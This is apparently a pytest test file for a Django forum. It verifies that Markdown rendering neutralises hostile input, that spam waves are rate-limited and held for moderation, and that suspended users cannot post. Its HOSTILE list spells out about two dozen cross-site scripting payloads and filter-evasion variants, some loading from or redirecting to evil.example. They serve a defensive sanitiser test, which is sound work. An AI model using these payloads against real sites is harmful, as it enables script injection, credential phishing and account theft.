"""Abuse: hostile Markdown is neutralised, a spam wave ends in the queue (throttled, held,
never on the site), and a suspended member cannot post by any path."""

from __future__ import annotations

from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.core.exceptions import PermissionDenied
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from minehub.accounts.models import User
from minehub.core.markdown import ALLOWED_TAGS, render_markdown
from minehub.core.testing import active_content, client_for, make_user
from minehub.exchange import moderation, policy, posting
from minehub.exchange.models import Post, Reply, Standing, State

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '![x](x" onerror="alert(1))',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div onmouseover="alert(1)">hover</div>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '[x](https://ok.example "title" onclick=alert(1))',
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]


class _Elements(HTMLParser):
    """Every element and attribute in rendered HTML (escaped text is not an element)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_neutralised(source: str) -> None:
    html = str(render_markdown(source))
    assert active_content(html) == [], html
    elements = _Elements()
    elements.feed(html)
    assert elements.tags <= ALLOWED_TAGS, html
    for tag, name, value in elements.attributes:
        assert name in {"href", "src", "alt", "title", "rel", "start"}, (tag, name, html)
        if name in {"href", "src"}:
            scheme = value.split(":", 1)[0].lower() if ":" in value.split("/", 1)[0] else ""
            assert scheme in {"", "http", "https", "mailto"}, (tag, name, value)


def test_safe_links_survive_with_nofollow() -> None:
    html = str(render_markdown("[hub](https://minehub.example/)"))
    assert 'href="https://minehub.example/"' in html
    assert "nofollow" in html


def _new_accounts(count: int, prefix: str) -> list[User]:
    # Created directly (no password hashing): the wave is about posting, not signing up.
    User.objects.bulk_create(
        [User(email=f"{prefix}{n}@spam.example", password="!") for n in range(count)]
    )
    return list(User.objects.filter(email__startswith=prefix).order_by("pk"))


def _spam_form(number: int) -> dict[str, str]:
    return {
        "kind": "solution",
        "title": f"Cheap gold buyers {number}",
        "body": f"Best prices! https://gold-{number}.spam.example/ call now {number}",
        "language": "en",
    }


def test_a_spam_wave_from_one_address_is_throttled_and_held() -> None:
    accounts = _new_accounts(500, "wave")
    statuses: dict[int, int] = {}
    for number, account in enumerate(accounts):
        client = Client(REMOTE_ADDR="198.51.100.66")
        client.force_login(account)
        status = client.post(reverse("exchange:post-create"), _spam_form(number)).status_code
        statuses[status] = statuses.get(status, 0) + 1
    assert statuses == {302: 30, 429: 470}
    spam = Post.objects.filter(author__email__endswith="@spam.example")
    assert spam.count() == 30
    assert set(spam.values_list("state", flat=True)) == {State.HELD}
    assert not Post.objects.visible().exists()
    listing = Client().get(reverse("exchange:post-list")).content.decode()
    assert "Cheap gold buyers" not in listing
    # All of it waits in the moderation queue.
    assert len(moderation.queue().entries) == 30


def test_a_spam_wave_from_many_addresses_is_held_per_account() -> None:
    accounts = _new_accounts(40, "spread")
    statuses: dict[int, int] = {}
    for index, account in enumerate(accounts):
        client = Client(REMOTE_ADDR=f"203.0.113.{index + 1}")
        client.force_login(account)
        for attempt in range(7):
            response = client.post(
                reverse("exchange:post-create"), _spam_form(index * 10 + attempt)
            )
            statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
    # New members: five posts an hour each, every one held for review.
    assert statuses == {302: 40 * 5, 429: 40 * 2}
    assert not Post.objects.visible().exists()
    assert Post.objects.filter(state=State.HELD).count() == 200


# ----------------------------------------------------------------------- suspension


@pytest.fixture
def suspended() -> User:
    user = make_user("suspended@example.org")
    Standing.objects.create(
        user=user,
        trust=Standing.Trust.TRUSTED,
        suspended_until=timezone.now() + timedelta(days=2),
        suspension_reason="Spam",
    )
    return user


@pytest.fixture
def thread() -> Post:
    author = make_user("asker@example.org")
    Standing.objects.create(user=author, trust=Standing.Trust.TRUSTED)
    return posting.create_post(
        author, kind="question", title="Cyanide testing", body="How?", language="en"
    )


def test_a_suspended_member_cannot_post_through_the_forms(suspended: User, thread: Post) -> None:
    client = client_for(suspended)
    assert client.get(reverse("exchange:post-create")).status_code == 403
    assert client.post(reverse("exchange:post-create"), _spam_form(1)).status_code == 403
    response = client.post(
        reverse("exchange:post-reply", args=[thread.pk]),
        {"kind": "answer", "body": "An answer", "language": "en"},
    )
    assert response.status_code == 403
    response = client.post(reverse("exchange:report", args=["post", thread.pk]), {"reason": "spam"})
    assert response.status_code == 403
    assert Post.objects.filter(author=suspended).count() == 0
    assert Reply.objects.filter(author=suspended).count() == 0


def test_a_suspended_member_cannot_post_through_the_services(suspended: User, thread: Post) -> None:
    with pytest.raises(PermissionDenied):
        posting.create_post(suspended, kind="question", title="T", body="B", language="en")
    with pytest.raises(PermissionDenied):
        posting.add_reply(suspended, post=thread, kind="answer", body="A", language="en")
    # Any path that forgot to ask still gets nothing onto the site.
    assert policy.admit(suspended, "text") == State.HELD


def test_a_suspension_ends_by_itself(suspended: User) -> None:
    Standing.objects.filter(user=suspended).update(suspended_until=timezone.now() - timedelta(1))
    fresh = User.objects.get(pk=suspended.pk)
    post = posting.create_post(fresh, kind="question", title="Back", body="Hello", language="en")
    assert post.state == State.VISIBLE
